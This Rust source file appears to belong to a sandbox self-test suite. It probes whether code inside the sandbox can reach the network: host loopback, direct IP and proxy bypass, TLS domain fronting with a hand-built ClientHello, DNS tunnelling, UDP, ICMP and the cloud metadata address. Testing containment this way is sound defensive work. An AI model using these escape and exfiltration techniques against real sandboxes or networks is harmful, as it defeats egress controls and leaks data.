//! Network exfiltration: connections and datagrams aimed at the host's
//! own listeners (loopback, its address, a metadata address), around the
//! proxy, under an allowed name's TLS hello, through DNS and ICMP.
use crate::lab::{
    at_host, free_port, from_run, need_host_ip, with_hits, Attack, Lab, Listener, Proto, Verdict,
    EGRESS, LISTENER_REPLY,
};
use crate::probes::{arg, contained, errno_name, escaped, port, Finding, Probe};
use crate::Category;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        // ---- network exfiltration ----
        (
            "net.host-loopback",
            Category::Network,
            "connect to a service on the host's 127.0.0.1",
            host_loopback,
        ),
        (
            "net.direct-ip",
            Category::Network,
            "connect straight to an IP address (no name)",
            |lab| at_host(lab, Proto::Tcp, EGRESS, "tcp-connect", &[], "the listener"),
        ),
        (
            "net.no-network",
            Category::Network,
            "connect out of a sandbox given no network",
            |lab| at_host(lab, Proto::Tcp, &[], "tcp-connect", &[], "the listener"),
        ),
        (
            "net.domain-fronting",
            Category::Network,
            "send an allowed name's TLS hello to an attacker's address",
            domain_fronting,
        ),
        (
            "net.proxy-bypass",
            Category::Network,
            "ignore the proxy settings and speak HTTP straight to an address",
            |lab| {
                at_host(
                    lab,
                    Proto::Tcp,
                    EGRESS,
                    "http-direct",
                    &["allowed.selftest.invalid"],
                    "the listener",
                )
            },
        ),
        (
            "net.tls-without-name",
            Category::Network,
            "open TLS without a server name",
            |lab| {
                at_host(
                    lab,
                    Proto::Tcp,
                    EGRESS,
                    "tls-fronting",
                    &[""],
                    "the listener",
                )
            },
        ),
        (
            "net.dns-tunnel",
            Category::Network,
            "carry data out in DNS queries",
            |lab| {
                at_host(
                    lab,
                    Proto::Udp,
                    EGRESS,
                    "dns-tunnel",
                    &[&lab.token],
                    "the attacker's name server",
                )
            },
        ),
        (
            "net.udp",
            Category::Network,
            "send UDP to the host",
            |lab| {
                at_host(
                    lab,
                    Proto::Udp,
                    EGRESS,
                    "udp-send",
                    &[],
                    "the host's UDP listener",
                )
            },
        ),
        (
            "net.ipv6-loopback",
            Category::Network,
            "connect to a service on the host's ::1",
            ipv6_loopback,
        ),
        ("net.icmp", Category::Network, "ping the host", |lab| {
            let ip = match need_host_ip(lab) {
                Ok(ip) => ip,
                Err(v) => return v,
            };
            from_run(&lab.sandbox(EGRESS, "icmp-echo", &[&ip.to_string()]))
        }),
        (
            "net.metadata",
            Category::Network,
            "reach a cloud metadata service (169.254.169.254)",
            |lab| from_run(&lab.sandbox(EGRESS, "tcp-connect", &["169.254.169.254", "80"])),
        ),
    ]
}

/// Connect to a listener on the host's 127.0.0.1, which the sandbox's
/// own loopback must not be.
fn host_loopback(lab: &Lab) -> Verdict {
    let Ok(l) = Listener::start(
        "127.0.0.1:0"
            .parse()
            .unwrap_or(SocketAddr::from(([127, 0, 0, 1], 0))),
        LISTENER_REPLY,
    ) else {
        return Verdict::Skipped("cannot listen on the host's loopback".into());
    };
    let r = lab.sandbox(
        EGRESS,
        "tcp-connect",
        &["127.0.0.1", &l.addr.port().to_string()],
    );
    with_hits(&r, l.hits(), "the host's loopback listener")
}

/// Send an allowed name's TLS hello to the attacker's address on the same
/// port: the proxy must connect by the name, never by the address asked for.
fn domain_fronting(lab: &Lab) -> Verdict {
    let ip = match need_host_ip(lab) {
        Ok(ip) => ip,
        Err(v) => return v,
    };
    let port = free_port();
    let (Ok(_legit), Ok(attacker)) = (
        Listener::start(SocketAddr::from(([127, 0, 0, 1], port)), b"legit\n"),
        Listener::start(SocketAddr::from((ip, port)), LISTENER_REPLY),
    ) else {
        return Verdict::Skipped("cannot listen on the same port on two addresses".into());
    };
    let allow = format!("allowed.selftest.invalid:{port}");
    let r = lab.sandbox(
        &[
            "--allow-domain",
            &allow,
            "--add-host",
            "allowed.selftest.invalid=127.0.0.1",
        ],
        "tls-fronting",
        &[
            &ip.to_string(),
            &port.to_string(),
            "allowed.selftest.invalid",
        ],
    );
    with_hits(&r, attacker.hits(), "the attacker's listener")
}

/// Connect to a listener on the host's ::1.
fn ipv6_loopback(lab: &Lab) -> Verdict {
    let Ok(l) = Listener::start(
        "[::1]:0"
            .parse()
            .unwrap_or(SocketAddr::from(([0u16; 8], 0))),
        LISTENER_REPLY,
    ) else {
        return Verdict::Skipped("this host has no IPv6 loopback".into());
    };
    let r = lab.sandbox(EGRESS, "tcp-connect", &["::1", &l.addr.port().to_string()]);
    with_hits(&r, l.hits(), "the host's IPv6 listener")
}

pub(crate) const PROBES: &[Probe] = &[
    Probe {
        name: "tcp-connect",
        harmful: false,
        run: tcp_connect,
    },
    Probe {
        name: "tls-fronting",
        harmful: false,
        run: tls_fronting,
    },
    Probe {
        name: "http-direct",
        harmful: false,
        run: http_direct,
    },
    Probe {
        name: "udp-send",
        harmful: false,
        run: udp_send,
    },
    Probe {
        name: "dns-tunnel",
        harmful: false,
        run: dns_tunnel,
    },
    Probe {
        name: "icmp-echo",
        harmful: false,
        run: icmp_echo,
    },
];

fn connect_attempt(addr: SocketAddr, payload: &[u8]) -> Finding {
    match TcpStream::connect_timeout(&addr, Duration::from_secs(3)) {
        Err(e) => contained(format!("connect {addr}: {e}")),
        Ok(mut s) => {
            let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
            let _ = s.write_all(payload);
            let mut buf = [0u8; 256];
            let n = s.read(&mut buf).unwrap_or(0);
            // Whether anything arrived is the host listener's to say; a
            // reply from it would be the proof.
            if n > 0 && buf[..n].starts_with(b"warden-selftest-listener") {
                escaped(format!("reached the host listener at {addr}"))
            } else {
                contained(format!(
                    "connect {addr}: accepted by warden's proxy, {n} bytes back"
                ))
            }
        }
    }
}

/// A TLS ClientHello naming `name` (TLS 1.2 record, one cipher suite, the
/// server_name extension only): enough for a server to read the name.
fn client_hello(name: &str) -> Vec<u8> {
    let host = name.as_bytes();
    let mut sni = Vec::new();
    sni.extend_from_slice(&((host.len() + 3) as u16).to_be_bytes());
    sni.push(0);
    sni.extend_from_slice(&(host.len() as u16).to_be_bytes());
    sni.extend_from_slice(host);
    let mut ext = Vec::new();
    if !name.is_empty() {
        ext.extend_from_slice(&[0, 0]);
        ext.extend_from_slice(&(sni.len() as u16).to_be_bytes());
        ext.extend_from_slice(&sni);
    }
    let mut body = vec![3, 3];
    body.extend_from_slice(&[7u8; 32]);
    body.push(0);
    body.extend_from_slice(&[0, 2, 0x13, 0x01]);
    body.extend_from_slice(&[1, 0]);
    body.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    body.extend_from_slice(&ext);
    let mut hs = vec![1];
    hs.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(&body);
    let mut rec = vec![22, 3, 1];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

/// A DNS query for `name` (type A).
fn dns_query(name: &str) -> Vec<u8> {
    let mut q = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.').filter(|l| !l.is_empty()) {
        q.push(label.len().min(63) as u8);
        q.extend_from_slice(&label.as_bytes()[..label.len().min(63)]);
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

fn tcp_connect(args: &[String]) -> Finding {
    match format!("{}:{}", arg(args, 0), port(args, 1)).parse::<SocketAddr>() {
        Ok(a) => connect_attempt(a, b"warden-selftest-probe\n"),
        Err(_) => match format!("[{}]:{}", arg(args, 0), port(args, 1)).parse::<SocketAddr>() {
            Ok(a) => connect_attempt(a, b"warden-selftest-probe\n"),
            Err(e) => escaped(format!("bad address: {e}")),
        },
    }
}

fn tls_fronting(args: &[String]) -> Finding {
    // A ClientHello for an allowed name, sent to another address.
    match format!("{}:{}", arg(args, 0), port(args, 1)).parse::<SocketAddr>() {
        Ok(a) => connect_attempt(a, &client_hello(arg(args, 2))),
        Err(e) => escaped(format!("bad address: {e}")),
    }
}

fn http_direct(args: &[String]) -> Finding {
    match format!("{}:{}", arg(args, 0), port(args, 1)).parse::<SocketAddr>() {
        Ok(a) => connect_attempt(
            a,
            format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", arg(args, 2)).as_bytes(),
        ),
        Err(e) => escaped(format!("bad address: {e}")),
    }
}

fn udp_send(args: &[String]) -> Finding {
    let target = format!("{}:{}", arg(args, 0), port(args, 1));
    let sock = UdpSocket::bind(if arg(args, 0).contains(':') {
        "[::]:0"
    } else {
        "0.0.0.0:0"
    });
    match sock.and_then(|s| s.send_to(b"warden-selftest-probe", &target)) {
        Err(e) => contained(format!("send to {target}: {e}")),
        Ok(_) => contained(format!("sent to {target} (the host listener judges)")),
    }
}

fn dns_tunnel(args: &[String]) -> Finding {
    // Data in a name, to the sandbox's resolver and straight at an outside
    // name server.
    let name = format!("{}.exfil.test", arg(args, 2));
    let q = dns_query(&name);
    let mut out = Vec::new();
    if let Ok(s) = UdpSocket::bind("0.0.0.0:0") {
        let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
        for target in [
            "127.0.0.1:53".to_string(),
            format!("{}:{}", arg(args, 0), port(args, 1)),
        ] {
            let sent = s.send_to(&q, &target);
            let mut buf = [0u8; 512];
            let answer = s.recv_from(&mut buf).ok().map(|(n, _)| buf[..n].to_vec());
            let rcode = answer.as_ref().and_then(|a| a.get(3)).map(|b| b & 0xf);
            out.push(format!(
                "{target}: sent {:?}, rcode {rcode:?}",
                sent.is_ok()
            ));
        }
    }
    contained(format!("{} (the host listener judges)", out.join("; ")))
}

fn icmp_echo(args: &[String]) -> Finding {
    use nix::sys::socket::{socket, AddressFamily, SockFlag, SockProtocol, SockType};
    // An unprivileged ping socket; a reply would mean ICMP left.
    let target: std::net::Ipv4Addr = arg(args, 0)
        .parse()
        .unwrap_or(std::net::Ipv4Addr::LOCALHOST);
    match socket(
        AddressFamily::Inet,
        SockType::Datagram,
        SockFlag::empty(),
        SockProtocol::Icmp,
    ) {
        Err(e) => contained(format!("ping socket: {}", errno_name(e))),
        Ok(fd) => {
            let s = UdpSocket::from(fd);
            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
            let echo = [8u8, 0, 0, 0, 0x12, 0x34, 0, 1, b'w', b'd'];
            match s.send_to(&echo, (target, 0)) {
                Err(e) => contained(format!("ping {target}: {e}")),
                Ok(_) => {
                    let mut buf = [0u8; 64];
                    match s.recv_from(&mut buf) {
                        Ok((_, from)) if from.ip() == std::net::IpAddr::V4(target) => {
                            escaped(format!("{target} answered the ping"))
                        }
                        Ok((_, from)) => contained(format!("only {from} answered")),
                        Err(e) => contained(format!("no answer from {target}: {e}")),
                    }
                }
            }
        }
    }
}
